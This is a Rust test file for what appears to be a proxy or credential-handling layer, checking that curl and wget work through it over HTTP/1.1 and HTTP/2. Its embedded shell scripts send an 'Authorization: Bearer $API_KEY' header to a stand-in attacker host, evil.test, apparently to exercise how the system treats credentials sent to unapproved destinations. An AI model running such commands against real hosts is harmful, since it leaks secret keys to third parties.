//! Programs of the system.

use http::Version;

use crate::{
    conversation::{Client, hold},
    world::Way,
};

const CURL: &str = r#"
with() { curl -sS -w '\nspoken %{http_version}\n' $1 -H "Authorization: Bearer $API_KEY" https://api.example.com/echo \
  --next -sS $1 -H "Authorization: Bearer $API_KEY" https://evil.test/ \
  --next -sS $1 -H "Authorization: Bearer $API_KEY" https://api.example.com/hold; }
"#;

#[test]
fn curl_speaks_either_version() {
    for way in Way::BOTH {
        for (option, spoken, version) in
            [("--http1.1", "spoken 1.1", Version::HTTP_11), ("--http2", "spoken 2", Version::HTTP_2)]
        {
            let script = format!("{CURL} with {option}");
            let command = ["sh", "-c", &script];
            let finished = hold(way, &Client { name: option, command: &command, version });
            assert!(finished.stdout.contains(spoken), "{option} {way:?}: {finished:#?}");
        }
    }
}

#[test]
fn wget_gets_several() {
    let script = r#"exec wget -q -O - --tries=1 --header="Authorization: Bearer $API_KEY" \
        https://api.example.com/echo https://evil.test/ https://api.example.com/hold"#;
    for way in Way::BOTH {
        hold(way, &Client { name: "wget", command: &["sh", "-c", script], version: Version::HTTP_11 });
    }
}
